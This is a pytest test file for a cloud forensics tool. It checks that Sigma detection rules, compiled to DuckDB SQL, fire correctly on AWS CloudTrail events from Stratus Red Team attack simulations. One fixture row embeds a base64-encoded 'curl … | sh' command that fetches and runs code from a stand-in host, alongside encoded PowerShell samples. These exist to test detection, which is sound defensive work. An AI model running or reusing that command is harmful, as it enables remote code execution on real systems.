"""Sigma rules compiled to DuckDB SQL and run over a real timeline (Stratus detonations)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from tests.conftest import cloudir, query

HEADER = """title: {title}
id: {rule_id}
status: experimental
description: test rule
logsource: {{product: aws, service: cloudtrail}}
level: {level}
"""


def write_rule(folder: Path, name: str, detection: str, level: str = "high") -> Path:
    rule_id = f"00000000-0000-4000-8000-{abs(hash(name)) % 10**12:012d}"
    path = folder / f"{name}.yml"
    path.write_text(HEADER.format(title=name, rule_id=rule_id, level=level) + detection)
    return path


@pytest.fixture(scope="module")
def stratus(corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    case = tmp_path_factory.mktemp("detect") / "case"
    folder = corpus / "cloudtrail/stratus-red-team/detonation-logs"
    assert cloudir("capture", "files", "--case", str(case), str(folder)).code == 0
    assert cloudir("timeline", "--case", str(case)).code == 0
    return case


def run(case: Path, rules: Path, *extra: str) -> tuple[int, dict]:
    result = cloudir(
        "detect", "--case", str(case), "--rules", str(rules), "--no-builtin", "--json", *extra
    )
    assert result.code in (0, 1), result.stderr
    return result.code, result.json()


def count(case: Path, sql: str) -> int:
    return query(case, f"SELECT count(*) AS n FROM timeline WHERE {sql}")[0]["n"]


def test_matching_is_case_insensitive_like_sigma(stratus: Path, tmp_path: Path) -> None:
    write_rule(tmp_path, "stop", "detection:\n  s:\n    eventName: stoplogging\n  condition: s\n")
    code, doc = run(stratus, tmp_path)
    [finding] = doc["findings"]
    assert finding["count"] == count(stratus, "raw->>'eventName' = 'StopLogging'") > 0
    assert code == 1  # a high finding with the default --fail-on high
    assert set(finding["event_ids"]) == {
        r["event_id"]
        for r in query(
            stratus, "SELECT event_id FROM timeline WHERE raw->>'eventName' = 'StopLogging'"
        )
    }
    assert finding["entities"]["principals"]
    assert finding["techniques"] == []


def test_modifiers_agree_with_plain_sql(stratus: Path, tmp_path: Path) -> None:
    cases = {
        "startswith": ("eventName|startswith: getsecret", "raw->>'eventName' ILIKE 'GetSecret%'"),
        "endswith": (
            "eventSource|endswith: .AMAZONAWS.COM",
            "raw->>'eventSource' ILIKE '%.amazonaws.com'",
        ),
        "contains_all": (
            "userAgent|contains|all: [stratus, go]",
            "raw->>'userAgent' ILIKE '%stratus%' AND raw->>'userAgent' ILIKE '%go%'",
        ),
        "re": (
            "eventName|re: '^(Get|List)Secret'",
            "regexp_matches(raw->>'eventName', '^(Get|List)Secret')",
        ),
        "exists": ("errorCode|exists: true", "raw->>'errorCode' IS NOT NULL"),
        "nested": ("userIdentity.type: IAMUser", "raw->'userIdentity'->>'type' = 'IAMUser'"),
        "column": ("outcome: success", "outcome = 'success'"),
    }
    for name, (selection, _) in cases.items():
        write_rule(tmp_path, name, f"detection:\n  s:\n    {selection}\n  condition: s\n", "low")
    _, doc = run(stratus, tmp_path)
    counts = {f["title"]: f["count"] for f in doc["findings"]}
    for name, (_, sql) in cases.items():
        assert counts.get(name, 0) == count(stratus, sql), name
    assert doc["rules"]["loaded"] == len(cases)


def test_cidr_is_network_math_not_a_string_prefix(stratus: Path, tmp_path: Path) -> None:
    write_rule(
        tmp_path, "net", "detection:\n  s:\n    sourceIPAddress|cidr: 86.0.0.0/7\n  condition: s\n"
    )
    _, doc = run(stratus, tmp_path)
    ips = {ip for f in doc["findings"] for ip in f["entities"]["source_ips"]}
    assert ips and all(ip.split(".")[0] in ("86", "87") for ip in ips)


def test_a_rule_that_cannot_run_is_skipped_with_its_reason(stratus: Path, tmp_path: Path) -> None:
    write_rule(tmp_path, "good", "detection:\n  s:\n    eventName: StopLogging\n  condition: s\n")
    write_rule(
        tmp_path, "lookbehind", "detection:\n  s:\n    eventName|re: '(?<=x)y'\n  condition: s\n"
    )
    (tmp_path / "broken.yml").write_text("title: [unclosed\n")
    _, doc = run(stratus, tmp_path)
    reasons = {Path(s["path"]).name: s["reason"] for s in doc["rules"]["skipped"]}
    assert "invalid" in reasons["lookbehind.yml"]
    assert "broken.yml" in reasons
    assert [f["title"] for f in doc["findings"]] == ["good"]
    result = cloudir("rules", "validate", str(tmp_path))
    assert result.code == 3
    assert "SKIPPED" in result.stdout


def test_findings_files_follow_the_contract(stratus: Path, tmp_path: Path) -> None:
    write_rule(tmp_path, "stop", "detection:\n  s:\n    eventName: StopLogging\n  condition: s\n")
    code, _ = run(stratus, tmp_path, "--fail-on", "critical")
    assert code == 0
    doc = json.loads((stratus / "findings/findings.json").read_text())
    assert {"case", "generated", "cloudir_version", "rules", "findings"} <= set(doc)
    finding = doc["findings"][0]
    assert {
        "rule_id", "title", "level", "status", "tags", "techniques", "count", "first_seen",
        "last_seen", "event_ids", "entities", "rule_path",
    } <= set(finding)  # fmt: skip
    import pyarrow.parquet as pq

    table = pq.read_table(stratus / "findings/findings.parquet")
    assert table.num_rows == finding["count"]
    assert set(table.column("event_id").to_pylist()) == set(finding["event_ids"])


def test_every_shipped_rule_loads() -> None:
    result = cloudir("rules", "list", "--json")
    assert result.code == 0, result.stderr
    doc = result.json()
    assert len(doc["loaded"]) >= 40
    assert doc["skipped"] == []
    kinds = {r["kind"] for r in doc["loaded"]}
    assert kinds == {"rule", "feeds-only", "event_count", "value_count", "value_sum"} | {
        "temporal",
        "temporal_ordered",
    }


@pytest.fixture(scope="module")
def stratus_by_technique(corpus: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One evidence item per Stratus technique file, so a hit names its technique."""
    case = tmp_path_factory.mktemp("techniques") / "case"
    files = sorted((corpus / "cloudtrail/stratus-red-team/detonation-logs").glob("*.json"))
    assert cloudir("capture", "files", "--case", str(case), *map(str, files)).code == 0
    assert cloudir("timeline", "--case", str(case)).code == 0
    return case


def test_shipped_rules_fire_on_their_stratus_techniques(stratus_by_technique: Path) -> None:
    import yaml

    positives_file = Path(__file__).parent / "data" / "rule_positives.yml"
    positives = yaml.safe_load(positives_file.read_text()) or {}
    case = stratus_by_technique
    result = cloudir("detect", "--case", str(case), "--json", "--fail-on", "critical")
    assert result.code == 0, result.stderr
    item_of = {
        r["event_id"]: r["evidence_id"]
        for r in query(case, "SELECT event_id, evidence_id FROM timeline")
    }
    fired: dict[str, set[str]] = {}
    for finding in result.json()["findings"]:
        items = {item_of[e] for e in finding["event_ids"]}
        fired[finding["rule_id"]] = {i.removeprefix("cloudtrail-") for i in items}
    checked = 0
    missed: list[str] = []
    for rule_id, techniques in positives.items():
        for technique in techniques or []:
            if technique not in fired.get(str(rule_id), set()):
                missed.append(f"{rule_id} on {technique}")
            checked += 1
    assert missed == []
    assert checked >= 44


MODIFIER_RULES = {
    # name: (detection selection, event ids (by label) it must match)
    "base64offset": ("CommandLine|base64offset|contains: 'curl http'", {"b64"}),
    "windash": ("CommandLine|windash|contains: ' -enc '", {"dash", "slash"}),
    "gte": ("requestParameters.maxCount|gte: 50", {"many"}),
    "lt": ("requestParameters.maxCount|lt: 2", {"one"}),
    "is_null": ("requestParameters.maxCount: null", {"b64", "dash", "slash", "kw", "keyref"}),
    "fieldref": ("userName|fieldref: requestParameters.userName", {"keyref"}),
    "keyword": ("'Evil-Marker'", {"kw"}),
}


@pytest.fixture(scope="module")
def modifier_case(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, dict[str, str]]:
    """Rows built so that each modifier has a hit and a near miss among them."""
    import base64

    from tests.timeline_rows import timeline_row, write_timeline

    encoded = base64.b64encode(b"xx curl http://198.51.100.9/x | sh").decode()
    raws = {
        "b64": {"CommandLine": f"powershell -e {encoded}"},
        "dash": {"CommandLine": "powershell -enc AAAA"},
        "slash": {"CommandLine": "powershell /enc AAAA"},
        "many": {"requestParameters": {"maxCount": 60}},
        "one": {"requestParameters": {"maxCount": 1}},
        "kw": {"message": "an evil-marker in text"},
        "keyref": {"userName": "Alice", "requestParameters": {"userName": "alice"}},
        "other": {"userName": "bob", "requestParameters": {"userName": "alice", "maxCount": 2}},
    }
    rows = [
        timeline_row("aws:cloudtrail", f"2026-01-01T10:00:0{n}Z", raw)
        for n, raw in enumerate(raws.values())
    ]
    case = tmp_path_factory.mktemp("modifiers") / "case"
    write_timeline(case, rows)
    return case, {row["event_id"]: label for row, label in zip(rows, raws, strict=True)}


def test_a_list_of_patterns_matches_any_element_of_an_array(tmp_path: Path) -> None:
    """`field|startswith: [a, b]` on a raw path: one any-element fallback tests every value
    (backend._one_fallback), so a value matching the 2nd pattern in the 2nd element of an
    array, at the leaf or further up, is found, and an array of near misses is not."""
    from tests.timeline_rows import timeline_row, write_timeline

    raws = {
        "scalar": {"requestParameters": {"items": {"type": "G5.xlarge"}}},
        "up": {"requestParameters": {"items": [{"type": "m5.large"}, {"type": "g5.2xlarge"}]}},
        "leaf": {"requestParameters": {"items": {"type": ["t3.micro", "p4d.24xlarge"]}}},
        "miss": {"requestParameters": {"items": [{"type": "m5.large"}, {"type": "xg5.large"}]}},
        "none": {"requestParameters": {"other": "g5.large"}},
    }
    rows = [
        timeline_row("aws:cloudtrail", f"2026-01-01T10:00:0{n}Z", raw)
        for n, raw in enumerate(raws.values())
    ]
    case = tmp_path / "case"
    write_timeline(case, rows)
    label_of = {row["event_id"]: label for row, label in zip(rows, raws, strict=True)}
    selection = "requestParameters.items.type|startswith:\n      - 'p4d.'\n      - 'g5.'"
    rules = tmp_path / "rules"
    rules.mkdir()
    write_rule(rules, "patterns", f"detection:\n  s:\n    {selection}\n  condition: s\n")
    _, doc = run(case, rules)
    [finding] = doc["findings"]
    assert {label_of[e] for e in finding["event_ids"]} == {"scalar", "up", "leaf"}


@pytest.mark.parametrize("name", sorted(MODIFIER_RULES))
def test_sigma_modifiers_match_what_sigma_means(
    modifier_case: tuple[Path, dict[str, str]], tmp_path: Path, name: str
) -> None:
    case, label_of = modifier_case
    selection, expected = MODIFIER_RULES[name]
    body = f"  s:\n    - {selection}\n" if name == "keyword" else f"  s:\n    {selection}\n"
    write_rule(tmp_path, name, f"detection:\n{body}  condition: s\n", "low")
    _, doc = run(case, tmp_path)
    [finding] = doc["findings"] or [{"event_ids": []}]
    assert {label_of[e] for e in finding["event_ids"]} == expected


def test_rules_are_bound_together_and_a_failing_one_is_named_alone() -> None:
    """load_rules test-binds every rule in one statement (one per rule grew with rules x
    fields); when that fails, each rule is bound alone, so only the rules DuckDB cannot
    run are skipped, each with DuckDB's reason."""
    from types import SimpleNamespace

    from cloudir.analyze.detect import _unbindable, empty_timeline, register_functions, validate

    shipped = validate([], builtin=True)
    assert shipped.rules and not shipped.skipped
    con = empty_timeline()
    register_functions(con)
    plain: dict[int, Any] = {
        n: SimpleNamespace(predicate=rule.predicate)
        for n, rule in enumerate(shipped.rules)
        if not rule.is_correlation
    }
    assert len(plain) > 100
    assert _unbindable(shipped.backend, con, plain) == {}
    broken = {**plain, -1: SimpleNamespace(predicate="no_such_column = 'x'"), -2: None}
    found = _unbindable(shipped.backend, con, broken)
    assert list(found) == [-1]
    assert found[-1].startswith("DuckDB cannot run it: Binder Error")
